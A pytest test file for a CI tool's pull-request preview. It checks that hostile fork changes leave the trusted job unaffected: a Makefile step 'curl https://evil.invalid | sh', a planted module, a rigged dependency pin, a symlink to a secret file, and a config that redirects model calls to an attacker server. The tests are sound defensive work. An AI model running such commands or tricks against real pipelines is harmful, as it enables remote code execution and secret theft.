"""The production preview end to end: a base repository and a fork (real git repositories), the
pull request published as ``refs/pull/N/head``, a fake GitHub API on 127.0.0.1, and the trusted
checkout of the default branch running ``seedtree preview --pull-request``."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml
from fake_github import FakeGitHub
from mdrender import render as commonmark

from helpers import PROJECT_ROOT, git
from seedtree.cli import run
from seedtree.config import load_config
from seedtree.preview.github import sections
from seedtree.preview.model import PreviewReport, load_report
from seedtree.preview.pull import fetch_pull, write_documents, write_leaves
from seedtree.project import Project
from teacher.servers import ScriptedServer, ok_body

DEMO = PROJECT_ROOT / "tooling" / "seedtree" / "data" / "demo"
LEAF = "compositional_skills/linguistics/antonyms"
TIDES = "knowledge/science/oceanography/tides"
REPO = "octo/seeds"
LEAF_FILES = ("/qna.yaml", "/attribution.txt")
TRUSTED = "preview:\n  samples: 0\ngenerate:\n  tokenizer: whitespace\n"


@pytest.fixture
def attacker() -> Iterator[list[str]]:
    """An HTTP server on 127.0.0.1 that records every request (a pull request's endpoint)."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            seen.append(self.path)
            self.send_response(500)
            self.end_headers()

        do_GET = do_POST

        def log_message(self, format: str, *args: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    seen.append(f"http://127.0.0.1:{server.server_address[1]}/v1")
    try:
        yield seen
    finally:
        server.shutdown()
        server.server_close()


def _repos(make_repo: Callable[..., Path], tmp_path: Path, config: str) -> tuple[Path, Path, Path]:
    """The base repository, the trusted checkout of its default branch, and a fork."""
    base = make_repo("base")
    (base / "seedtree.yaml").write_text(config, encoding="utf-8")
    for rel in ("Makefile", ".github/workflows/preview.yml", "requirements/lock.txt"):
        (base / rel).parent.mkdir(parents=True, exist_ok=True)
        (base / rel).write_text("# the base's\n", encoding="utf-8")
    git(base, "add", "-A")
    git(base, "commit", "-q", "-m", "configuration")
    trusted, fork = tmp_path / "trusted", tmp_path / "fork"
    git(tmp_path, "clone", "-q", str(base), str(trusted))
    git(tmp_path, "clone", "-q", str(base), str(fork))
    git(fork, "checkout", "-q", "-b", "contribution")
    return base, trusted, fork


def _add_leaves(fork: Path) -> None:
    shutil.copytree(DEMO / "antonyms", fork / "taxonomy" / LEAF)
    shutil.copytree(DEMO / "tides", fork / "taxonomy" / TIDES)
    git(fork, "add", "-A")
    git(fork, "commit", "-q", "-m", "add antonyms and tides")


def _publish(base: Path, fork: Path, number: int = 7) -> str:
    """What GitHub does when a fork opens a pull request: ``refs/pull/N/head`` on the base."""
    git(base, "fetch", "-q", str(fork), f"+HEAD:refs/pull/{number}/head")
    return git(fork, "rev-parse", "HEAD").strip()


def _production(trusted: Path, out: Path, *extra: str) -> PreviewReport:
    args = ["preview", "-C", str(trusted), "--pull-request", "7", "--out", str(out), "--quiet"]
    assert run([*args, *extra]) == 0
    return load_report(out.with_suffix(".json").read_text(encoding="utf-8"), "preview.json")


def _behaviour(report: PreviewReport) -> dict[str, Any]:
    data = report.model_dump()
    for key in ("seconds", "head_commit"):
        data.pop(key)
    return data


def test_the_snapshot_holds_leaves_documents_and_the_trusted_configuration_only(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    base, trusted, fork = _repos(make_repo, tmp_path, TRUSTED)
    _add_leaves(fork)
    hostile = {
        "seedtree.yaml": "preview:\n  samples: 9\n",
        "Makefile": "venv:\n\ttouch /tmp/pwned\n",
        ".github/workflows/preview.yml": "on: push\n",
        "requirements/lock.txt": "evil==1.0\n",
        "tooling/seedtree/__init__.py": "raise SystemExit('pwned')\n",
    }
    for rel, text in hostile.items():
        (fork / rel).parent.mkdir(parents=True, exist_ok=True)
        (fork / rel).write_text(text, encoding="utf-8")
    secret = tmp_path / "secret.txt"
    secret.write_text("s3cr3t\n", encoding="utf-8")
    attribution = fork / "taxonomy" / LEAF / "attribution.txt"
    attribution.unlink()
    attribution.symlink_to(secret)
    git(fork, "add", "-A")
    git(fork, "commit", "-q", "-m", "everything at once")
    head = _publish(base, fork)

    project = Project(trusted, trusted / "taxonomy", load_config(trusted))
    snapshot = fetch_pull(project, 7, None, tmp_path / "work")
    assert snapshot.head_commit == head
    pulled = Project(snapshot.root, snapshot.root / "taxonomy", project.config)
    snapshot = write_leaves(pulled, snapshot, "taxonomy/")
    write_documents(pulled, snapshot, [pulled.taxonomy_root / TIDES])
    files = sorted(
        p.relative_to(snapshot.root).as_posix()
        for p in snapshot.root.rglob("*")
        if ".git" not in p.relative_to(snapshot.root).parts and not p.is_dir()
    )
    leaf_files = [f for f in files if f.startswith("taxonomy/") and f.endswith(LEAF_FILES)]
    assert sorted(set(files) - set(leaf_files)) == ["seedtree.yaml", f"taxonomy/{TIDES}/tides.md"]
    assert f"taxonomy/{LEAF}/qna.yaml" in leaf_files  # knowledge leaves too: their documents may
    assert f"taxonomy/{TIDES}/qna.yaml" in leaf_files  # be what changed
    assert (snapshot.root / "seedtree.yaml").read_bytes() == (
        trusted / "seedtree.yaml"
    ).read_bytes()
    assert snapshot.linked == (f"taxonomy/{LEAF}/attribution.txt",)
    assert not any(p.is_symlink() for p in snapshot.root.rglob("*"))


@pytest.mark.parametrize(
    ("changed", "text"),
    [
        ("seedtree.yaml", "SEE_ATTACKER"),
        ("tooling/seedtree/preview/build.py", "raise SystemExit('pwned')\n"),
        ("requirements/lock.txt", "evil==6.6.6 --hash=sha256:00\n"),
        (".github/workflows/preview.yml", "on: [push]\njobs: {}\n"),
        ("Makefile", "venv:\n\tcurl https://evil.invalid | sh\n"),
    ],
)
def test_a_pull_request_changing_what_runs_changes_nothing_the_trusted_job_runs(
    make_repo: Callable[..., Path],
    tmp_path: Path,
    attacker: list[str],
    changed: str,
    text: str,
) -> None:
    base, trusted, fork = _repos(make_repo, tmp_path, TRUSTED)
    _add_leaves(fork)
    license_line = "License of the work: WTFPL\n"
    attribution = fork / "taxonomy" / LEAF / "attribution.txt"
    attribution.write_text(attribution.read_text().replace("License of the work: Apache-2.0\n",
                                                           license_line))  # fmt: skip
    git(fork, "commit", "-q", "-a", "-m", "an unusual licence")
    _publish(base, fork)
    expected = _production(trusted, tmp_path / "leaves-only.md")

    url = attacker[0]
    if text == "SEE_ATTACKER":  # the pull request's configuration would widen and redirect
        text = yaml.safe_dump({
            "teacher": {"backend": "openai", "base_urls": [url], "max_retries": 0},
            "preview": {"samples": 3, "max_teacher_tokens": None},
            "precheck": {"base_urls": [url]},
            "validate": {"allowed_licenses": ["WTFPL"]},
        })  # fmt: skip
    (fork / changed).parent.mkdir(parents=True, exist_ok=True)
    (fork / changed).write_text(text, encoding="utf-8")
    git(fork, "add", "-A")
    git(fork, "commit", "-q", "-m", f"change {changed}")
    _publish(base, fork)
    report = _production(trusted, tmp_path / "preview.md")

    assert _behaviour(report) == _behaviour(expected)  # the base branch's behaviour
    assert report.production and report.samples_per_leaf == 0
    leaf = next(v for v in report.leaves if v.id == LEAF)
    assert "license-not-allowed" in {f.rule for f in leaf.findings}
    assert attacker[1:] == []  # nothing reached the pull request's endpoint


def test_attribution_errors_are_shown_and_generation_goes_on(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    base, trusted, fork = _repos(make_repo, tmp_path, TRUSTED)
    _add_leaves(fork)
    attribution = fork / "taxonomy" / LEAF / "attribution.txt"
    attribution.write_text("Title of work: Antonyms\nLicense of the work: WTFPL\n", "utf-8")
    git(fork, "commit", "-q", "-a", "-m", "a thin attribution")
    _publish(base, fork)
    report = _production(trusted, tmp_path / "preview.md")
    leaf = next(v for v in report.leaves if v.id == LEAF)
    rules = {f.rule for f in leaf.findings if f.severity == "error"}
    assert {"attribution-field-missing", "license-not-allowed"} <= rules
    assert leaf.kind == "skill" and leaf.seeds and leaf.estimate  # loaded and estimated
    assert leaf.note is not None and leaf.note.startswith("generated anyway")
    assert run(["validate", "-C", str(fork), "--changed", "--base", "origin/main"]) == 1


def _gate(github: FakeGitHub, tmp_path: Path, asker: str) -> tuple[int, str, str]:
    """The workflow's gate step, run by bash as the runner would, against the fake API."""
    workflow = yaml.safe_load(
        (PROJECT_ROOT / ".github/workflows/preview-production.yml").read_text()
    )
    (job,) = workflow["jobs"].values()
    script = next(s for s in job["steps"] if s.get("id") == "gate")["run"]
    output = tmp_path / f"output-{asker}"
    output.write_text("", encoding="utf-8")
    env = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "PYTHONPATH": str(PROJECT_ROOT / "tooling"),
        "GITHUB_API_URL": github.url,
        "GITHUB_TOKEN": "t0ken",
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_OUTPUT": str(output),
        "GITHUB_STEP_SUMMARY": str(tmp_path / f"summary-{asker}"),
        "ASKER": asker,
    }
    done = subprocess.run(["bash", "-e", "-c", script], env=env, capture_output=True, text=True,
                          timeout=120)  # fmt: skip
    return done.returncode, output.read_text(encoding="utf-8"), done.stdout


def test_only_someone_with_write_access_starts_it_and_others_are_told(
    github: FakeGitHub, tmp_path: Path
) -> None:
    github.state.permissions.update({"maintainer": "write", "owner": "admin"})
    github.state.unknown_users.add("ghost")
    for asker, allowed in [("maintainer", True), ("owner", True), ("stranger", False),
                           ("ghost", False)]:  # fmt: skip
        status, output, said = _gate(github, tmp_path, asker)
        assert status == 0, said
        assert output == f"allowed={'true' if allowed else 'false'}\n"
        if not allowed:
            assert "nothing was run" in said
            assert "nothing was run" in (tmp_path / f"summary-{asker}").read_text()
    asked = [r.path for r in github.requests("GET") if "/collaborators/" in r.path]
    assert asked == [f"/repos/{REPO}/collaborators/{a}/permission"
                     for a in ("maintainer", "owner", "stranger", "ghost")]  # fmt: skip
    assert github.comments() == []  # a refused request posts nothing


def _comment(body: Path, *extra: str) -> None:
    assert run(["comment", "--repo", REPO, "--pr", "7", "--body", str(body), *extra]) == 0


@pytest.mark.slow
def test_a_maintainers_request_gives_a_production_preview_and_a_precheck(
    make_repo: Callable[..., Path],
    tiny_model_dir: Path,
    github_env: FakeGitHub,
    tmp_path: Path,
) -> None:
    from teacher.servers import seedtree_serve

    with seedtree_serve(tiny_model_dir, tmp_path) as url:
        name = tiny_model_dir.name
        config = yaml.safe_dump({
            "teacher": {"backend": "openai", "model": name, "base_urls": [url], "max_retries": 0},
            "generate": {"max_tokens": 16, "max_attempts_factor": 1.0, "tokenizer": "whitespace"},
            "preview": {"samples": 1},
            "precheck": {"base_urls": [url], "model": name, "max_tokens": 8, "judge": True},
        })  # fmt: skip
        base, trusted, fork = _repos(make_repo, tmp_path, config)
        shutil.copytree(DEMO / "antonyms", fork / "taxonomy" / LEAF)
        git(fork, "add", "-A")
        git(fork, "commit", "-q", "-m", "add antonyms")
        head = _publish(base, fork)
        github_env.set_head(7, head)
        default = tmp_path / "default.md"  # what preview.yml builds for every push
        args = ["preview", "-C", str(fork), "--base", "origin/main", "--samples", "0"]
        assert run([*args, "--out", str(default), "--quiet"]) == 0
        _comment(default.with_suffix(".json"), "--head-sha", head)

        report = _production(trusted, tmp_path / "production.md", "--precheck")
    assert report.teacher == f"openai:{name}" and report.head_commit == head
    (leaf,) = report.leaves
    assert leaf.samples and leaf.precheck is not None
    assert len(leaf.precheck.answers) == 5 and leaf.precheck.verdict.startswith("the current model")
    assert all(a.grade in (1, 2, 3) for a in leaf.precheck.answers)
    _comment(tmp_path / "production.json", "--head-sha", head)

    (comment,) = github_env.comments()
    parts = sections(comment["body"])
    assert set(parts) == {"production", "default"} and parts["production"][0] == head
    shown = parts["production"][1]
    assert "seedtree production preview" in shown and f"openai:{name}" in shown
    assert "**Precheck**" in shown and leaf.precheck.verdict in shown
    assert comment["body"].index("section production") < comment["body"].index("section default")

    seed = fork / "taxonomy" / LEAF / "qna.yaml"  # a newer push: its default preview replaces
    seed.write_text(seed.read_text(encoding="utf-8").replace("ancient", "antique"), "utf-8")
    git(fork, "commit", "-q", "-a", "-m", "edit a seed")
    newer = git(fork, "rev-parse", "HEAD").strip()
    github_env.set_head(7, newer)
    assert run([*args, "--out", str(default), "--quiet"]) == 0
    _comment(default.with_suffix(".json"), "--head-sha", newer)
    (comment,) = github_env.comments()
    assert set(sections(comment["body"])) == {"default"}  # the stale production one is gone


def test_the_retrain_comment_is_linked_from_each_leaf_of_the_preview(
    make_repo: Callable[..., Path], github_env: FakeGitHub, tmp_path: Path
) -> None:
    base, trusted, fork = _repos(make_repo, tmp_path, TRUSTED)
    _add_leaves(fork)
    head = _publish(base, fork)
    github_env.set_head(7, head)
    _production(trusted, tmp_path / "preview.md")
    _comment(tmp_path / "preview.json", "--head-sha", head)
    github_env.state.merged[head] = [7]
    summary = tmp_path / "summary.md"
    summary.write_text("## v2 released\n", encoding="utf-8")
    args = ["comment", "--repo", REPO, "--commit", head, "--marker", "retrain", "--body"]
    assert run([*args, str(summary)]) == 0
    preview, retrain = sorted(github_env.comments(), key=lambda c: "seedtree:retrain" in c["body"])
    link = f"[the retrain comment](<{retrain['html_url']}>)"
    assert preview["body"].count(link) == 2  # one per leaf section
    assert run([*args, str(summary)]) == 0  # again: still one link per leaf
    preview = next(c for c in github_env.comments() if "seedtree:preview" in c["body"])
    assert preview["body"].count("After the merge") == 2


def test_a_pull_request_that_is_not_there_is_a_clear_error(
    make_repo: Callable[..., Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _base, trusted, _fork = _repos(make_repo, tmp_path, TRUSTED)
    args = ["preview", "-C", str(trusted), "--pull-request", "9", "--out", str(tmp_path / "p.md")]
    assert run(args) == 3
    err = capsys.readouterr().err
    assert "cannot fetch pull request #9" in err and "Traceback" not in err
    assert not (tmp_path / "p.json").exists()


def test_the_cost_cap_refuses_before_any_teacher_call(
    make_repo: Callable[..., Path], tmp_path: Path, attacker: list[str]
) -> None:
    config = yaml.safe_dump({
        "teacher": {"backend": "openai", "base_urls": [attacker[0]], "max_retries": 0},
        "generate": {"tokenizer": "whitespace"},
        "preview": {"samples": 3, "max_teacher_tokens": 100},
    })  # fmt: skip
    base, trusted, fork = _repos(make_repo, tmp_path, config)
    _add_leaves(fork)
    _publish(base, fork)
    report = _production(trusted, tmp_path / "preview.md")
    assert report.note is not None and "above preview.max_teacher_tokens (100)" in report.note
    assert all(leaf.note == report.note and not leaf.samples for leaf in report.leaves)
    assert all(leaf.estimate for leaf in report.leaves)  # the full-run estimate is still shown
    assert attacker[1:] == []  # the teacher was never called
    shown = commonmark((tmp_path / "preview.md").read_text(encoding="utf-8"))
    assert "above preview.max_teacher_tokens (100)" in "".join(shown.text)


# -- a newer push stops the run -------------------------------------------------------------------


class PushingTeacher(ScriptedServer):
    """A teacher whose first request (``/push/v1``) comes while the contributor pushes again:
    its answer is sent once the pull request's head names the new commit."""

    def __init__(self, push: Callable[[], None] | None) -> None:
        super().__init__()
        self.push = push

    def _push(self, h: BaseHTTPRequestHandler, body: dict[str, Any], count: int) -> None:
        if count == 1 and self.push is not None:
            self.push()
        self._ok(h, body, count)

    def _ok(self, h: BaseHTTPRequestHandler, body: dict[str, Any], count: int) -> None:
        self.send(h, 200, ok_body(body.get("n", 1)))  # the precheck asks for one answer

    def prompts(self, scenario: str) -> list[str]:
        return [json.dumps(body).lower() for _at, body, _auth in self.hits.get(scenario, [])]


def _job_tools(trusted: Path) -> None:
    """The job's ``.venv/bin`` (``make venv`` there): this checkout's seedtree and python."""
    bin_dir = trusted / ".venv" / "bin"
    bin_dir.mkdir(parents=True)
    for name, command in (("python", ""), ("seedtree", " -m seedtree")):
        (bin_dir / name).write_text(f'#!/bin/sh\nexec "{sys.executable}"{command} "$@"\n')
        (bin_dir / name).chmod(0o755)


def _run_steps(trusted: Path, tmp_path: Path, github: FakeGitHub) -> tuple[dict[str, str], str]:
    """The workflow's steps after the gate, run by bash in the job's checkout as the runner
    would (each ``if:`` evaluated on the step outputs): their outputs and what they printed."""
    workflow = yaml.safe_load(
        (PROJECT_ROOT / ".github/workflows/preview-production.yml").read_text()
    )
    (job,) = workflow["jobs"].values()
    steps = job["steps"]
    gate = next(i for i, s in enumerate(steps) if s.get("id") == "gate")
    outputs, said = {"gate.allowed": "true"}, ""
    for step in steps[gate + 1 :]:
        terms = re.findall(r"steps\.(\w+)\.outputs\.(\w+) == '(\w+)'", step["if"])
        assert " && ".join(f"steps.{s}.outputs.{k} == '{v}'" for s, k, v in terms) == step["if"]
        if "make venv" in step["run"] or any(outputs.get(f"{s}.{k}") != v for s, k, v in terms):
            continue
        output = tmp_path / "github-output"
        output.write_text("", encoding="utf-8")
        env = {**os.environ, "PYTHONPATH": str(PROJECT_ROOT / "tooling"),
               "GITHUB_API_URL": github.url, "GITHUB_TOKEN": "t0ken", "GITHUB_REPOSITORY": REPO,
               "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
               "RUNNER_TEMP": str(tmp_path / "runner"), "PR_NUMBER": "7"}  # fmt: skip
        done = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=trusted, env=env,
                              capture_output=True, text=True, timeout=600)  # fmt: skip
        said += done.stdout + done.stderr
        assert done.returncode == 0, said
        lines = output.read_text(encoding="utf-8").splitlines()
        outputs |= {f"{step.get('id')}.{k}": v for k, _, v in (x.partition("=") for x in lines)}
    return outputs, said


@pytest.mark.parametrize(
    ("leaves", "pushed"), [((LEAF, TIDES), True), ((LEAF,), True), ((LEAF, TIDES), False)]
)
def test_a_newer_push_stops_the_run_before_its_next_leaf_and_nothing_is_posted(
    make_repo: Callable[..., Path],
    github: FakeGitHub,
    tmp_path: Path,
    leaves: tuple[str, ...],
    pushed: bool,
) -> None:
    def push() -> None:
        seed = fork / "taxonomy" / LEAF / "qna.yaml"
        seed.write_text(seed.read_text(encoding="utf-8").replace("ancient", "antique"), "utf-8")
        git(fork, "commit", "-q", "-a", "-m", "edit a seed")
        _publish(base, fork)

    teacher = PushingTeacher(push if pushed else None)
    try:
        config = yaml.safe_dump({
            "teacher": {"backend": "openai", "base_urls": [teacher.url("push")],
                        "max_retries": 0, "max_in_flight": 4},  # within the listen backlog
            "generate": {"max_tokens": 16, "max_attempts_factor": 1.0, "tokenizer": "whitespace"},
            "preview": {"samples": 1, "max_teacher_tokens": None},
            "precheck": {"base_urls": [teacher.url("ok")], "max_tokens": 8},
        })  # fmt: skip
        base, trusted, fork = _repos(make_repo, tmp_path, config)
        for leaf in leaves:
            shutil.copytree(DEMO / leaf.rpartition("/")[2], fork / "taxonomy" / leaf)
        git(fork, "add", "-A")
        git(fork, "commit", "-q", "-m", "add leaves")
        github.set_head(7, _publish(base, fork))
        _job_tools(trusted)
        outputs, said = _run_steps(trusted, tmp_path, github)
    finally:
        teacher.close()
    first, precheck = teacher.prompts("push"), teacher.prompts("ok")
    antonyms, tides = ([p for p in first if word in p] for word in ("antonym", "tide"))
    assert antonyms and sorted(antonyms + tides) == sorted(first)  # each prompt is one leaf's
    if not pushed:  # every leaf and the precheck: the comment is posted
        assert outputs["build.current"] == "true" and tides and precheck
        assert len(github.comments()) == 1
        return
    moved = git(fork, "rev-parse", "HEAD").strip()
    assert f"pull request #7 moved on to {moved[:12]}: a newer run previews it; nothing posted" \
        in said  # fmt: skip
    assert outputs["build.current"] == "false"
    assert tides == [] and precheck == []  # no teacher work for the next leaf, no precheck
    assert list((tmp_path / "runner" / "preview").iterdir()) == []  # nothing written
    assert github.comments() == []
